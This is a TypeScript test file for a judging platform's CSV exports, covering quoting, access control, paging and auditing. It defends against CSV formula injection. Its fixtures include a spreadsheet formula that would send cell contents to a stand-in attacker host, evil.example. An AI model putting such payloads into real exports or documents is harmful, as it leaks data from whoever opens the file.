import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import t from 'tap';
import { auditLog } from '../../../src/db/schema/index.js';
import { csvStream } from '../../../src/lib/csv.js';
import { createExportService } from '../../../src/modules/judging/exports.service.js';
import { createJudgingDirectory } from '../../../src/modules/proposals/proposals.service.js';
import { createServices } from '../../../src/services.js';
import { buildFeatureApp } from '../../helpers/app.js';
import { createUser } from '../../helpers/factories.js';
import { assignAll, judgingWorld, submitReview } from '../../helpers/judging.js';

// The organisers' CSV exports: proposals, reviews and the ranking, RFC 4180, formula-safe,
// streamed in keyset pages, organisers only, audited.

const { app } = await buildFeatureApp(t);
const c = (id: string) => `/v1/competitions/${id}`;
const rows = (body: string) => parse(body, { columns: true, bom: true }) as Array<Record<string, string>>;

const world = await judgingWorld(app, { count: 3, judges: 2, judging: { reviewsPerProposal: 2 } });
await assignAll(app, world);
const [j1, j2] = world.judges as [(typeof world.judges)[0], (typeof world.judges)[0]];
const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
await submitReview(app, world.competitionId, j1, world.proposalIds[0]!, { impact: 9, innovation: 7, feasibility: 8 }, hostile);
await submitReview(app, world.competitionId, j2, world.proposalIds[0]!, { impact: 5, innovation: 5, feasibility: 5 }, 'Line one\r\nsays "hi", ok');
await submitReview(app, world.competitionId, j1, world.proposalIds[1]!, { impact: 1, innovation: 1, feasibility: 1 }, '@SUM(1+1)');
await submitReview(app, world.competitionId, j2, world.proposalIds[1]!, { impact: 10, innovation: 10, feasibility: 10 }, '-2+3');

t.test('reviews: RFC 4180 with CRLF, one column per criterion, formulas neutralised, quoting round-trips', async (t) => {
  const res = await app.inject({ url: `${c(world.competitionId)}/exports/reviews`, headers: world.organiser.auth });
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  t.equal(res.headers['cache-control'], 'no-store', 'personal data: no cache keeps it');
  t.match(res.headers['content-disposition'], /^attachment; filename="reviews-[0-9a-f-]{36}\.csv"/);
  const header = res.body.split('\r\n')[0];
  t.equal(header, 'review_id,round,proposal_id,proposal_title,judge_id,judge_name,judge_email,judge_status,status,weighted_score,score:impact,score:innovation,score:feasibility,comment_for_applicant,note_for_organisers,submitted_at,updated_at');
  t.ok(res.body.endsWith('\r\n'), 'records end in CRLF');
  t.notOk(/[^\r]\n/.test(res.body.replace(/"[^"]*"/g, '')), 'no bare LF outside quoted fields');
  const parsed = rows(res.body);
  t.equal(parsed.length, 4, 'every review with a row (the two unstarted assignments have none)');
  const byComment = new Map(parsed.map((r) => [r.comment_for_applicant, r]));
  t.ok(byComment.has(`'${hostile}`), 'a formula is prefixed with an apostrophe');
  t.ok(byComment.has("'@SUM(1+1)"), '@ too');
  t.ok(byComment.has("'-2+3"), 'and a leading minus in text');
  t.ok(byComment.has('Line one\r\nsays "hi", ok'), 'quotes, commas and line breaks survive the round trip');
  const top = byComment.get(`'${hostile}`)!;
  // (9−1)/9·40 + (7−1)/9·30 + (8−1)/9·30 = 35.56 + 20 + 23.33 = 78.89
  t.match(top, { round: '1', proposal_id: world.proposalIds[0], proposal_title: 'Proposal 1', judge_id: j1.judgeId, judge_email: j1.email.toLowerCase(), judge_status: 'accepted', status: 'submitted', weighted_score: '78.89', 'score:impact': '9' });
  t.equal(byComment.get("'-2+3")!.weighted_score, '100', 'numbers are not escaped');
  t.equal(byComment.get("'@SUM(1+1)")!.weighted_score, '0');
});

t.test('proposals and ranking exports', async (t) => {
  const proposals = await app.inject({ url: `${c(world.competitionId)}/exports/proposals?bom=true`, headers: world.organiser.auth });
  t.equal(proposals.statusCode, 200);
  t.ok(proposals.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'bom=true starts with the UTF-8 BOM');
  const list = rows(proposals.body);
  t.same(list.map((p) => p.proposal_id), [...world.proposalIds].sort(), 'every submitted proposal, by id');
  t.match(list.find((p) => p.proposal_id === world.proposalIds[2]), { status: 'submitted', title: 'Proposal 3', team_size: '0', revision: '1', late: 'false', withdrawn_at: '' });
  t.ok(list.every((p) => (p.applicant_name ?? '').length > 0 && /^\d{4}-\d\d-\d\dT/.test(p.first_submitted_at ?? '')), 'names and submission instants');

  const ranking = await app.inject({ url: `${c(world.competitionId)}/exports/ranking`, headers: world.organiser.auth });
  t.equal(ranking.statusCode, 200);
  t.match(ranking.headers['content-disposition'], /filename="ranking-round-1-/);
  const ranked = rows(ranking.body);
  t.same(Object.keys(ranked[0]!), ['rank', 'proposal_id', 'title', 'score', 'raw_score', 'normalised_score', 'review_count', 'tie_break', 'mean:impact', 'mean:innovation', 'mean:feasibility']);
  const json = await app.inject({ url: `${c(world.competitionId)}/ranking`, headers: world.organiser.auth });
  t.same(
    ranked.map((r) => [r.rank, r.proposal_id, r.score]),
    json.json().entries.map((e: { rank: number; proposalId: string; score: number }) => [String(e.rank), e.proposalId, String(e.score)]),
    'the same ranking as the JSON one',
  );
  const audited = await app.database.db.select({ action: auditLog.action, data: auditLog.data }).from(auditLog).where(and(eq(auditLog.competitionId, world.competitionId), eq(auditLog.action, 'export.downloaded')));
  t.same(audited.map((a) => (a.data as { dataset: string }).dataset).sort(), ['proposals', 'ranking', 'reviews'], 'each export is audited with its dataset');
});

t.test('only the competition’s organisers export; bad input is a 422 naming every bad field', async (t) => {
  t.equal((await app.inject({ url: `${c(world.competitionId)}/exports/reviews`, headers: j1.auth })).statusCode, 404, 'a judge may not');
  const stranger = await createUser(app);
  t.equal((await app.inject({ url: `${c(world.competitionId)}/exports/proposals`, headers: stranger.auth })).statusCode, 404, 'another organisation’s user may not');
  t.equal((await app.inject({ url: `${c(world.competitionId)}/exports/proposals` })).statusCode, 401);
  const bad = await app.inject({ url: `${c(world.competitionId)}/exports/secrets`, headers: world.organiser.auth });
  t.equal(bad.statusCode, 422);
  t.same(bad.json().errors.map((e: { field: string }) => e.field), ['dataset']);
  const badRound = await app.inject({ url: `${c(world.competitionId)}/exports/reviews?round=7&bom=yes`, headers: world.organiser.auth });
  t.equal(badRound.statusCode, 422);
  t.same(badRound.json().errors.map((e: { field: string }) => e.field).sort(), ['bom', 'round'], 'every bad field named');
});

t.test('keyset paging: every row exactly once across pages, in id order', async (t) => {
  const services = createServices({ config: app.config, database: app.database, signAccessToken: () => 'unused' });
  const small = createExportService({ ...services, db: app.database.db, proposals: createJudgingDirectory(app.database.db), organisationProfile: services.organisations.get, pageSize: 2 });
  const actor = { userId: world.organiser.id, isAdmin: false } as Parameters<typeof small.export>[0];
  const file = await small.export(actor, world.competitionId, 'reviews', {});
  const seen: string[] = [];
  for await (const row of file.rows) seen.push(row.review_id as string);
  t.equal(seen.length, 4, 'four reviews over two pages of two and an empty third');
  t.same(seen, [...seen].sort(), 'in id order');
  t.equal(new Set(seen).size, 4, 'none twice');
  const proposals = await small.export(actor, world.competitionId, 'proposals', {});
  let n = 0;
  for await (const _ of proposals.rows) n += 1;
  t.equal(n, 3, 'three proposals over pages of two');
});

t.test('a failure while streaming is reported, not swallowed', async (t) => {
  async function* failing() {
    yield { a: 1 };
    throw new Error('database away');
  }
  const errors: Error[] = [];
  const stream = csvStream([{ key: 'a', header: 'a' }], failing(), { onError: (e) => errors.push(e) });
  const chunks: string[] = [];
  await t.rejects(
    (async () => {
      for await (const chunk of stream) chunks.push(String(chunk));
    })(),
    /database away/,
  );
  t.same(errors.map((e) => e.message), ['database away']);
});
